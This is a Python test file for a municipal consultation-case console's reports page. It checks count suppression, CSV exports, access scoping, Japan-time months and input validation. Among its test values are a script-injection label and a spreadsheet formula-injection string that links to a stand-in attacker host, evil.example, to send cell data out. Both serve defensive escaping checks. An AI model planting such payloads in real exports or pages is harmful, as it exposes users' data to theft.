"""The reports page on seeded cases, on SQLite and PostgreSQL: the figures counted by
month, 区, channel and category, small counts hidden so no total gives them away, each
CSV the same as its table, agency staff counting only the cases they may open, and
nobody else let in."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from cases.models import Case, Consent, IntakeSheet, Resident, StaffUser
from tests.console.conftest import CARE, OTHER, Console, console_on, handed_off_case, sign_in

APRIL = datetime(2026, 4, 10, 3, 0, tzinfo=UTC)  # 2026-04-10 12:00 JST
MAY = datetime(2026, 5, 12, 3, 0, tzinfo=UTC)
SPRING = {"from": "2026-04", "to": "2026-05"}


@pytest.fixture
async def console(database_url: str) -> AsyncIterator[Console]:
    async with console_on(database_url) as running:
        yield running


class Tables(HTMLParser):
    """Each report table of a page as rows of cell texts (the header row first)."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.svgs = 0
        self._key: str | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "svg":
            self.svgs += 1
        figure = found.get("data-figure")
        if tag == "table" and figure:
            self._key = figure
            self.tables[figure] = []
        elif self._key and tag == "tr":
            self.tables[self._key].append([])
        elif self._key and tag in ("th", "td"):
            self._cell = []

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag: str) -> None:
        if self._key and tag in ("th", "td") and self._cell is not None:
            self.tables[self._key][-1].append("".join(self._cell).strip())
            self._cell = None
        elif tag == "table":
            self._key = None


def tables_of(html: str) -> Tables:
    parsed = Tables()
    parsed.feed(html)
    return parsed


def row(table: list[list[str]], label: str) -> list[str]:
    return next(r[1:] for r in table if r[0] == label)


def column(table: list[list[str]], heading: str, label: str) -> str:
    return row(table, label)[table[0].index(heading) - 1]


async def seed(factory: async_sessionmaker[AsyncSession], groups: list[dict[str, Any]]) -> None:
    """Cases in groups: `n` alike, with their sheet begun `sheet_hours` before the
    hand-off and staff's first answer `answer_hours` after it (when given)."""
    async with factory() as db:
        number = 0
        for group in groups:
            for _ in range(group["n"]):
                number += 1
                resident = Resident(line_user_id=f"U{number:032d}")
                db.add(resident)
                await db.flush()
                created: datetime = group["at"]
                sheet_id = None
                if "sheet_hours" in group:
                    sheet = IntakeSheet(
                        ref=f"s{number}",
                        resident_id=resident.id,
                        status="sent",
                        data={},
                        created_at=created - timedelta(hours=group["sheet_hours"]),
                    )
                    db.add(sheet)
                    await db.flush()
                    sheet_id = sheet.id
                categories = group["categories"]
                case = Case(
                    resident_id=resident.id,
                    sheet_id=sheet_id,
                    origin=group.get("origin", "handoff"),
                    status="new",
                    categories=categories,
                    primary_category=categories[0],
                    urgency=group.get("urgency", "normal"),
                    ward=group["ward"],
                    is_complex=len(categories) > 1,
                    consulter=group.get("consulter"),
                    created_at=created,
                )
                db.add(case)
                await db.flush()
                if "answer_hours" in group:
                    # as `status.staff_answered` marks staff's first answer
                    case.first_response_at = created + timedelta(hours=group["answer_hours"])
                if group.get("withdrawn"):
                    for _ in range(2):  # two consents ended by one withdrawal
                        db.add(consent(resident.id, case.id, "inactive", created, MAY))
        for n in range(5):
            resident = Resident(line_user_id=f"Udeclined{n}")
            db.add(resident)
            await db.flush()
            db.add(consent(resident.id, None, "rejected", APRIL, None))
        await db.commit()


def consent(
    resident_id: int, case_id: int | None, status: str, at: datetime, withdrawn: datetime | None
) -> Consent:
    return Consent(
        resident_id=resident_id,
        case_id=case_id,
        status=status,
        purpose="p",
        text_version="v",
        text_hash="h",
        decided_at=at,
        withdrawn_at=withdrawn,
    )


SEEDED = [
    # April: 6 by the person (介護 + 借金, 複合課題), 5 by family (介護),
    # 2 民生委員 visits in crisis
    {"n": 6, "at": APRIL, "ward": "北区", "consulter": "self", "categories": ["care", "debt"],
     "sheet_hours": 2, "answer_hours": 5},
    {"n": 5, "at": APRIL, "ward": "中区", "consulter": "family", "categories": ["care"],
     "sheet_hours": 4, "answer_hours": 1},
    {"n": 2, "at": APRIL, "ward": "中区", "origin": "visit", "consulter": "minsei_iin",
     "categories": ["housing"], "urgency": "crisis"},
    # May: 5 by an agency (借金 + 住まい), one of whom later withdrew consent
    {"n": 4, "at": MAY, "ward": "北区", "consulter": "agency", "categories": ["debt", "housing"]},
    {"n": 1, "at": MAY, "ward": "北区", "consulter": "agency", "categories": ["debt", "housing"],
     "withdrawn": True},
    # a 区 not in the city's list
    {"n": 5, "at": MAY, "ward": "吉備区", "consulter": None, "categories": ["other"]},
    # outside the months chosen: never counted
    {"n": 7, "at": datetime(2026, 3, 31, 14, 59, tzinfo=UTC), "ward": "北区",
     "consulter": "self", "categories": ["care"]},
]  # fmt: skip


async def test_the_figures_of_seeded_cases(console: Console) -> None:
    await seed(console.factory, SEEDED)
    async with console.client() as client:
        await sign_in(client, "coordinator")
        page = await client.get("/console/reports", params=SPRING)
    assert page.status_code == 200
    shown = tables_of(page.text)
    assert shown.svgs >= len(shown.tables) == 8

    channels = shown.tables["channel-month"]
    assert channels[0] == ["月", "本人", "家族", "民生委員", "機関", "その他・不明", "計"]
    # 民生委員 2 is hidden, and more with it: the page's tables are hidden together (a
    # month's total here is the same number in 複合課題's table, a channel's total the
    # same in the 区 table), so none can be read off another
    assert row(channels, "2026-04") == ["*", "*", "*", "0", "0", "13"]
    assert row(channels, "2026-05") == ["0", "0", "0", "*", "*", "10"]
    assert row(channels, "計") == ["6", "*", "*", "5", "5", "23"]
    # a total another table shows is shown here too (a third tester: 「*」 beside 13)
    assert row(shown.tables["complex-month"], "2026-04")[2] == "13"

    by_ward = shown.tables["channel-ward"]
    assert row(by_ward, "北区") == ["6", "0", "0", "5", "0", "11"]
    # a 区 the city's list does not name is still counted, under its own name
    assert row(by_ward, "吉備区")[-1] == "5" and row(by_ward, "計")[-1] == "23"

    categories = shown.tables["category-ward"]
    assert column(categories, "北区", "介護のこと") == "6"
    assert column(categories, "中区", "介護のこと") == "5"
    assert column(categories, "計", "介護のこと") == "11"
    assert column(categories, "計", "支出・滞納・借金") == "11"
    # 住まい: 北区 5, 中区 2 → both hidden, the total shown
    housing = [column(categories, w, "住まいのこと") for w in ("北区", "中区", "計")]
    assert housing == ["*", "*", "7"]
    main = shown.tables["main-category-ward"]
    # ◎ 住まい 中区 2 is hidden; then 介護 中区 5 and both rows' totals, so that the 中区
    # total (7) leaves the 2 anything from 1 to 6
    assert [column(main, w, "介護のこと") for w in ("北区", "中区", "計")] == ["6", "*", "*"]
    assert [column(main, w, "支出・滞納・借金") for w in ("北区", "中区", "計")] == ["5", "0", "5"]
    assert [column(main, w, "住まいのこと") for w in ("北区", "中区", "計")] == ["0", "*", "*"]
    assert [column(main, w, "計") for w in ("北区", "中区", "吉備区", "計")] == [
        "11",
        "7",
        "5",
        "23",
    ]

    together = shown.tables["together"]
    assert column(together, "支出・借金・滞納", "介護") == "6"  # 8050: care with debt
    assert column(together, "介護", "介護") == "11"
    assert column(together, "住まい", "支出・借金・滞納") == "5"
    assert column(together, "住まい", "介護") == "0"

    complex_share = shown.tables["complex-month"]
    assert row(complex_share, "2026-04") == ["6", "7", "13", "46.2%"]
    assert row(complex_share, "2026-05") == ["5", "5", "10", "50.0%"]
    assert row(complex_share, "計") == ["11", "12", "23", "47.8%"]

    timing = shown.tables["timing-month"]
    # hand-off: six after 2 h, five after 4 h; staff: 2 + 5 = 7 h and 4 + 1 = 5 h
    assert row(timing, "2026-04") == ["11", "2.00", "4.00", "11", "7.00", "7.00"]
    assert row(timing, "2026-05") == ["0", "—", "—", "0", "—", "—"]

    consent_crisis = shown.tables["consent-crisis"]
    assert row(consent_crisis, "2026-04") == ["5", "0", "*"]
    assert row(consent_crisis, "2026-05") == ["0", "*", "0"]


async def test_a_ward_and_the_csv_of_each_table(console: Console) -> None:
    await seed(console.factory, SEEDED)
    async with console.client() as client:
        await sign_in(client, "admin")
        page = await client.get("/console/reports", params={**SPRING, "ward": "北区"})
        shown = tables_of(page.text)
        assert row(shown.tables["channel-month"], "計") == ["6", "0", "0", "5", "0", "11"]
        assert shown.tables["category-ward"][0] == ["お困りごと", "北区", "計"]
        # a declined consent opens no case: it has no 区
        assert [r[1] for r in shown.tables["consent-crisis"][1:]] == ["—", "—", "—"]
        for key, table in shown.tables.items():
            download = await client.get(
                f"/console/reports/{key}.csv", params={**SPRING, "ward": "北区"}
            )
            assert download.status_code == 200
            assert download.headers["content-type"].startswith("text/csv")
            assert "attachment" in download.headers["content-disposition"]
            # the file says which months and 区 it counts (a tester's finding)
            saved = unquote(download.headers["content-disposition"].split("UTF-8''")[1])
            assert saved.endswith("_2026-04_2026-05_北区.csv"), saved
            assert download.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
            assert list(csv.reader(io.StringIO(download.content.decode("utf-8-sig")))) == table
        assert (await client.get("/console/reports/nothing.csv")).status_code == 404


async def test_agency_staff_count_only_the_cases_they_may_open(console: Console) -> None:
    await seed(console.factory, SEEDED[:2])  # 11 cases shared with nobody
    await handed_off_case(console.factory)  # one, 北区, shared with the care agency
    now = datetime.now(UTC).strftime("%Y-%m")
    span = {"from": "2026-04", "to": now}
    totals = {}
    for login in ("coordinator", "care", "other"):
        async with console.client() as client:
            await sign_in(client, login)
            page = await client.get("/console/reports", params=span)
            assert page.status_code == 200
            totals[login] = row(tables_of(page.text).tables["channel-ward"], "計")[-1]
            if login != "coordinator":
                assert "見ることのできるケースだけ" in page.text
                # the header names the agency as the directory does, not by its id
                agency = CARE if login == "care" else OTHER
                assert f"・{agency.id}）" not in page.text
                assert f"・{agency.name}）" in page.text
    assert totals == {"coordinator": "12", "care": "*", "other": "0"}


async def test_only_console_staff_roles_open_the_reports(console: Console) -> None:
    async with console.client() as client:
        refused = await client.get("/console/reports")
        assert refused.status_code == 303 and "/console/login" in refused.headers["location"]
        await sign_in(client, "other")
        async with console.factory() as db:
            await db.execute(
                update(StaffUser).where(StaffUser.login == "other").values(role="viewer")
            )
            await db.commit()
        assert (await client.get("/console/reports")).status_code == 403
        assert (await client.get("/console/reports/channel-month.csv")).status_code == 403


async def test_months_are_counted_in_japan_time(console: Console) -> None:
    """A case at 2026-03-31 23:30 JST is March's; one at 2026-04-01 00:30 JST is April's."""
    march_end = datetime(2026, 3, 31, 14, 30, tzinfo=UTC)
    april_start = datetime(2026, 3, 31, 15, 30, tzinfo=UTC)
    groups = [
        {"n": 5, "at": march_end, "ward": "北区", "consulter": "self", "categories": ["care"]},
        {"n": 6, "at": april_start, "ward": "北区", "consulter": "self", "categories": ["care"]},
    ]
    await seed(console.factory, groups)
    async with console.client() as client:
        await sign_in(client, "coordinator")
        page = await client.get("/console/reports", params={"from": "2026-03", "to": "2026-04"})
    channels = tables_of(page.text).tables["channel-month"]
    assert row(channels, "2026-03")[0] == "5" and row(channels, "2026-04")[0] == "6"


def test_a_label_with_markup_is_drawn_as_text() -> None:
    """Charts go into the page as they are: whatever a case's 区 says is text in them."""
    from api.console.report_charts import chart_svg
    from api.console.report_tables import ReportTable

    table = ReportTable(
        "channel-ward",
        "相談経路別の相談件数（区別）",
        "区",
        ("本人", "計"),
        (("<script>alert(1)</script>", ("5", "5")),),
        "stacked",
        (0,),
    )
    drawn = chart_svg(table)
    assert drawn.startswith("<svg") and "<script" not in drawn
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in drawn


def test_charts_of_nothing_shown_keep_whole_counts_from_zero() -> None:
    """A tester's finding: a chart whose every cell was hidden had an axis of 0.00–0.05
    件, and an empty matrix a colour scale from −0.100 to 0.100."""
    import re

    from api.console.report_charts import chart_svg
    from api.console.report_tables import ReportTable

    hidden = ReportTable(
        "channel-ward", "相談経路別（すべて非表示）", "区", ("本人", "計"),
        (("北区", ("*", "*")), ("中区", ("*", "*"))), "stacked", (0,),
    )  # fmt: skip
    empty = ReportTable(
        "together", "いっしょに出てくるお困りごと（空）", "お困りごと", ("介護", "住まい"),
        (("介護", ("0", "0")), ("住まい", ("0", "0"))), "heatmap", (0, 1),
    )  # fmt: skip
    for table in (hidden, empty):
        drawn = chart_svg(table)
        ticks = re.findall(r">\s*(−?-?\d+\.\d+)\s*<", drawn)
        assert not [t for t in ticks if t.startswith(("−", "-"))], ticks
        if table is hidden:
            assert not ticks, ticks  # whole counts only


ODD_QUERIES = (
    {"from": "0001-01", "to": "0005-12"},
    {"to": "9999-12"},
    {"from": "2026-13", "to": "abc"},
    {"ward": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
    {"ward": "新宿区"},
)


async def test_odd_months_and_wards_give_a_report_never_an_error(console: Console) -> None:
    """Typed or crafted values: a year 1 or 9999 is ignored (it had overflowed into a 500),
    a 区 the city does not have narrows nothing, and no CSV cell starts a formula."""
    async with console.client() as client:
        await sign_in(client, "coordinator")
        for query in ODD_QUERIES:
            page = await client.get("/console/reports", params=query)
            assert page.status_code == 200, query
            exported = await client.get("/console/reports/channel-ward.csv", params=query)
            assert exported.status_code == 200, query
            cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
            assert not any(c.startswith(("=", "+", "@")) for c in cells), query
        for typed in ("0001-01-01", "9999-12-31"):
            for path in ("/console/cases", "/console/cases/live"):
                listed = await client.get(
                    path, params={"received_from": typed, "received_to": typed}
                )
                assert listed.status_code == 200, (path, typed)

        # what was not taken as typed is said (a tester's finding: silently ignored)
        said = (await client.get("/console/reports", params={"from": "2026-13", "to": "abc"})).text
        assert (
            "「2026-13」は月として読めなかった" in said and "「abc」は月として読めなかった" in said
        )
        swapped = await client.get("/console/reports", params={"from": "2026-05", "to": "2026-01"})
        assert "入れ替えました" in swapped.text
        cut = await client.get("/console/reports", params={"from": "2015-01", "to": "2026-01"})
        assert "5年までです。2021年02月からにしました" in cut.text
        plain = await client.get("/console/reports", params={"from": "2026-01", "to": "2026-05"})
        assert 'id="report-notes"' not in plain.text


async def test_a_request_the_console_cannot_read_gets_a_page_not_json(console: Console) -> None:
    """「?page=0」「?page=abc」 or a form sent without its field: a Japanese page."""
    async with console.client() as client:
        await sign_in(client, "coordinator")
        for params in ({"page": "0"}, {"page": "abc"}, {"page": "-1"}):
            listed = await client.get("/console/cases", params=params)
            assert listed.status_code == 400, params
            assert "読み取れませんでした" in listed.text and '"detail"' not in listed.text


async def test_staffs_first_answer_is_marked_once_and_a_look_is_not_one(console: Console) -> None:
    case_id = await handed_off_case(console.factory)

    async def first_response() -> datetime | None:
        async with console.factory() as db:
            case = await db.get(Case, case_id)
            assert case is not None
            return case.first_response_at

    async with console.client() as client:
        token = await sign_in(client, "coordinator")
        assert (await client.get(f"/console/cases/{case_id}")).status_code == 200
        assert await first_response() is None  # reading the case answers nobody
        accepted = await client.post(
            f"/console/cases/{case_id}/status", data={"to": "accepted", "csrf_token": token}
        )
        assert accepted.status_code == 303
        first = await first_response()
        assert first is not None
        await client.post(
            f"/console/cases/{case_id}/status", data={"to": "in_progress", "csrf_token": token}
        )
    assert await first_response() == first
